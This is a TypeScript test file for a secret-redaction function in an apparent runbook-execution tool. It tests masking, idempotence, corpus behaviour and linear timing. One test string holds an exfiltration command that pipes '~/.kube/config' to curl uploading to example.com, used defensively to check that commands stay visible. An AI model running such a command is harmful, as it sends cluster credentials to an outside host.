import * as assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { performance } from 'node:perf_hooks';
import { redactSecrets } from '../../../src/core/execution/secretRedaction';
import { parseRunbook } from '../../../src/core/runbooks/parseRunbook';
import { itWithCorpus, listMarkdown } from '../../support/corpus';
import { HAND_WRITTEN_CASES, PYTHON_CASES, SHELL_UNCHECKED_CASES, SQL_CASES } from './riskCases';
import data from '../../fixtures/execution/secretRedaction.json';

/** Every piece of `redacted` between masks appears, in order, in `original`: only secret values were replaced. */
function assertOnlyMasked(original: string, redacted: string): void {
  let at = 0;
  for (const piece of redacted.split('***')) {
    const found = original.indexOf(piece, at);
    assert.ok(found >= 0, `${JSON.stringify(piece)} of ${JSON.stringify(redacted)}`);
    at = found + piece.length;
  }
}

interface SlowCase {
  readonly unit: string;
  readonly prefix?: string;
  readonly suffix?: string;
  readonly reason: string;
}

/** About `size` characters: the case's unit repeated between its prefix and suffix. */
function grow(slow: SlowCase, size: number): string {
  return `${slow.prefix ?? ''}${slow.unit.repeat(Math.ceil(size / slow.unit.length))}${slow.suffix ?? ''}`;
}

function timeOf(text: string): number {
  const started = performance.now();
  redactSecrets(text);
  return performance.now() - started;
}

describe('redactSecrets', () => {
  for (const { input, expected, reason } of data.masked) {
    it(`masks ${reason}: ${JSON.stringify(input)}`, () => {
      assert.equal(redactSecrets(input), expected);
    });
  }

  for (const { input, reason } of data.visible) {
    it(`leaves ${reason} as written: ${JSON.stringify(input)}`, () => {
      assert.equal(redactSecrets(input), input);
    });
  }

  it('is idempotent: redacting a redacted text changes nothing', () => {
    for (const { expected } of data.masked) assert.equal(redactSecrets(expected), expected, expected);
  });

  it('never hides a word that is not part of a secret value: only *** replaces text', () => {
    for (const { input, expected } of data.masked) assertOnlyMasked(input, expected);
  });

  it('keeps the shape of every labelled risk case: where it masks, only values', () => {
    const changed: string[] = [];
    for (const { command } of [...HAND_WRITTEN_CASES, ...SHELL_UNCHECKED_CASES, ...SQL_CASES, ...PYTHON_CASES]) {
      const redacted = redactSecrets(command);
      if (redacted === command) continue;
      changed.push(redacted);
      assertOnlyMasked(command, redacted);
    }
    // Only commands that really carry a secret (`oc login ... --token=x`) change.
    assert.ok(changed.length <= 3, changed.join('\n'));
  });

  itWithCorpus('masks next to nothing in the steps of real runbooks (the labelled commands among them), and only values there', (corpusDir) => {
    let steps = 0;
    const changed: string[] = [];
    for (const file of listMarkdown(corpusDir)) {
      for (const step of parseRunbook(readFileSync(file, 'utf8')).steps) {
        steps++;
        const redacted = redactSecrets(step.content);
        if (redacted === step.content) continue;
        changed.push(`${file}: ${redacted}`);
        assertOnlyMasked(step.content, redacted);
      }
    }
    assert.ok(steps > 1000, `${steps} steps read`);
    // One step there writes `password: wrong-password` into a YAML example: a value, masked.
    assert.ok(changed.length <= 3, changed.join('\n'));
  });

  it('keeps the shape of a command after a secret: operators and the commands after them stay visible', () => {
    const text = 'auth: x && cat ~/.kube/config | curl -T - https://example.com';
    const redacted = redactSecrets(text);
    assert.ok(redacted.includes('&& cat ~/.kube/config | curl -T - https://example.com'), redacted);
  });

  describe('time (linear, whatever the text)', function () {
    this.timeout(60_000);
    const MEGABYTE = 1_000_000;
    // The budget is 50 ms for 1 MB (`npm run bench` prints the figure); the cap here leaves room
    // for a loaded machine and still fails by far on anything quadratic (tens of seconds). A
    // test of the growth ratio between two sizes was dropped: at the sizes a unit test can
    // afford, garbage collection alone moved the ratio from 4 to 11.
    const CAP_MS = 500;
    for (const slow of data.slow as SlowCase[]) {
      it(`redacts 1 MB of ${JSON.stringify(slow.unit)} (${slow.reason}) in under ${CAP_MS} ms`, () => {
        const text = grow(slow, MEGABYTE);
        timeOf(text.slice(0, 10_000)); // warm up
        const ms = Math.min(timeOf(text), timeOf(text));
        assert.ok(ms < CAP_MS, `${ms.toFixed(0)} ms`);
      });
    }

    it('redacts a 1 MB one-line step of ordinary commands and secrets in under the cap', () => {
      const line = 'kubectl get pods -n shop && PGPASSWORD=s3cr3t psql postgres://app:pw@db/shop -c "select 1" | curl -u a:b -H "Authorization: Bearer x" https://h ; ';
      const text = line.repeat(Math.ceil(MEGABYTE / line.length));
      const ms = Math.min(timeOf(text), timeOf(text));
      assert.ok(ms < CAP_MS, `${ms.toFixed(0)} ms`);
    });
  });
});
